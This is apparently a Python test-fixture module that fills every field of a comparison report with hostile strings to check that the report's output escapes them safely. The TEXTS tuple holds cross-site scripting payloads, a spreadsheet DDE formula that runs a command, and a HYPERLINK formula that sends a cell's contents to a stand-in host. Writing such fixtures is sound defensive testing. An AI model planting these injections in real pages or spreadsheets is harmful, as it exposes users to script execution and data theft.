"""Sources that try to be more than text, and a report in which such words stand wherever words can stand."""

from msgspec.structs import replace

import generator
from doichieu.models import (
    Cell,
    CellPassage,
    CitedDirective,
    Directive,
    Evidence,
    Figure,
    MatrixRow,
    Moment,
    PassagePlace,
    Place,
    SharedPassage,
    Skipped,
)
from doichieu.values import Report

TEXTS = (
    "<script>document.title='taken'</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://vi-du.vn/?"&A1,"bấm") ',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1) -2+3",
    "]]> <!-- --> <![CDATA[ &amp; &#0; &lt;",
    "\u202eđảo ngược\u202c \u200fphải\u200e \u2067tách",
    "chuông\x07 không\x00 xóa\x7f dòng\x0b trang\x0c _x0041_ _x000D_",
    "👩‍👩‍👧‍👦 😀 𠮷 đ\u0302\u0323",
    '"quotes" \'single\' onmouseover="x" `tick`',
    "javascript:alert(1)",
    "chữ " * 7_500,
)


def report(text: str) -> Report:
    """Two articles, the first of which says the text alone, as title, name, quote, figure, document and warning."""
    base = generator.report(2)
    first, second = base.comparison.articles
    source = replace(base.sources[first.id], text=text, url=text, path=text)
    size = len(text)
    paragraph = replace(first.paragraphs[0], line=1, start=0, end=size, role="body", rows=())
    evidence = Evidence(rule=text, quote=text, says=text, line=1, start=0, end=size)
    article = replace(
        first,
        source=replace(first.source, url=text, path=text),
        title=text,
        byline=text,
        published=Moment(earliest="2012-01-01", latest="2013-12-31", basis="inferred", evidence=(evidence,)),
        locality=Place(name=text, kind=text, province=text, code=None, display=text, today=text, confidence=0.5),
        paragraphs=(paragraph,),
        figures=(Figure(quote=text, line=1, start=0, end=size, value=7, unit=text, what=text, rows=("r",)),),
        directives=(
            Directive(
                symbol=text, type=text, title=text, issuer=text, issued=None, quote=text, line=1, start=0, end=size
            ),
        ),
        warnings=(text,),
    )
    passage = CellPassage(line=1, start=0, end=size, quote=text, score=0.5)
    row = MatrixRow(
        id="r",
        title=text,
        origin="discovered",
        cells={first.id: Cell(passages=(passage, passage), figures=(0,), summary=text)},
    )
    places = tuple(PassagePlace(article=a, line=1, start=0, end=size, quote=text) for a in (first.id, second.id))
    comparison = replace(
        base.comparison,
        articles=(article, second),
        matrix=replace(base.comparison.matrix, rows=(row,)),
        shared_passages=(SharedPassage(words=9, similarity=0.9, places=places),),
        directives=(CitedDirective(symbol=text, type=text, title=text, issued=None, cited_by=(first.id,)),),
        skipped=(Skipped(source=text, reason=text),),
        warnings=(text,),
        settings={"outline": text},
        fingerprint=text,
        generator=text,
    )
    return Report(comparison=comparison, sources={**base.sources, first.id: source})
